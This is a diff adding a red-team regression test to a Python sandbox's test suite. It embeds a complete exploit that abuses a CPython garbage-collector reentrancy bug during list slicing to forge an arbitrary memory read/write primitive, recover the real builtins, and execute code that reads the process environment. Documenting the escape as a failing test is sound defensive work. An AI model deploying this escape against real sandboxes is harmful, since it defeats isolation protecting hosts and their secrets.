@@ -40,6 +40,104 @@ def _tree_run(program: str, name: str) -> RunResult:
         return tree.run(name, program)
 
 
+# --- 0. a program runs arbitrary Python with the real builtins ---------------------------------
+#
+# The cyclic garbage collector runs when a container is allocated, anywhere, also in the middle
+# of C code that does not expect Python code to run (CPython's own Lib/test/crashers/
+# mutation_inside_cyclegc.py, a known "won't fix"). A tree program cannot define ``__del__`` or
+# weak-reference callbacks, but a suspended generator's ``finally`` is program code the collector
+# runs when the generator is garbage in a reference cycle. Here it runs inside ``lights[:]``
+# (``list_slice`` allocates the new list, then copies as many items as the list had before):
+# it shortens the list, which frees two ``bytes`` objects, and puts ``bytearray`` buffers in
+# their memory at once, each holding a fake ``bytearray`` object whose data starts at address 0
+# and is 2**62 bytes long (``id(bytearray)`` is the address of its type). The slice hands the
+# program the fakes: reading and writing any address of the process. From ``id(print)`` (a
+# ``SandboxFunction``) it reads its ``_call`` slot, a function of ``runner.sandbox.guards``, and
+# that function's globals, stores them in a list of its own, and calls the real ``exec``. The
+# check accepts the program; found: every run and every dry run (4 out of 4) printed the child's
+# pid, uid (65534: the OS layers still hold) and environment. A language-layer escape.
+ESCAPE = """
+def word(value):
+    return value.to_bytes(8, "little")
+
+
+FAKE = word(1 << 40) + word(id(bytearray)) + word(1 << 62) + word(1 << 62) + word(0) + word(0) + word(0)
+fakes = [None] * 64
+made = [0]
+done = [False]
+
+
+class Box:
+    pass
+
+
+def shrink_on_collection(box):
+    try:
+        yield
+    finally:
+        del lights[8:]
+        for i in range(4):
+            fakes[made[0]] = bytearray(FAKE)
+            made[0] += 1
+        done[0] = True
+
+
+lights = [bytes(20) for i in range(10)]
+box = Box()
+pending = shrink_on_collection(box)
+box.pending = pending
+next(pending)
+box = None
+pending = None
+kept = [None] * 2000
+n = 0
+while True:
+    copy = lights[:]
+    if done[0]:
+        break
+    copy.clear()
+    kept[n] = copy
+    n += 1
+memory = None
+for item in copy:
+    if type(item) is bytearray and len(item) > (1 << 60):
+        memory = item
+print("slice length", len(copy), "memory view found:", memory is not None)
+
+
+def read(address):
+    return int.from_bytes(memory[address : address + 8], "little")
+
+
+def write(address, value):
+    memory[address : address + 8] = word(value)
+
+
+function = read(id(print) + 16)
+module_globals = read(function + 16)
+holder = [None]
+write(module_globals, read(module_globals) + 1)
+write(read(id(holder) + 24), module_globals)
+real = holder[0]
+namespace = {"__builtins__": real["builtins"]}
+real["builtins"].exec("import os; found = (os.getpid(), os.getuid(), sorted(os.environ))", namespace)
+print("ESC" + "APED: pid, uid, environment:", namespace["found"])
+"""
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="red team round eight: a generator finalized by the garbage collector inside a "
+    "list slice gives a program a fake bytearray over all memory, then the real builtins",
+)
+def test_a_program_cannot_reach_the_real_builtins_through_the_garbage_collector() -> None:
+    assert Checker(_config()).check(ESCAPE) == [], "the upload check accepts the program"
+    real = _tree_run(ESCAPE, "gc-escape")
+    predicted = _dry_run(ESCAPE)
+    for log in (real.log, predicted.log):
+        assert "ESCAPED" not in log, log
+
+
 # --- 1. the cyclic garbage collector's count tells a dry run from the tree ---------------------
 #
 # A generator in a reference cycle is finalized (its ``finally`` runs: program code) only when
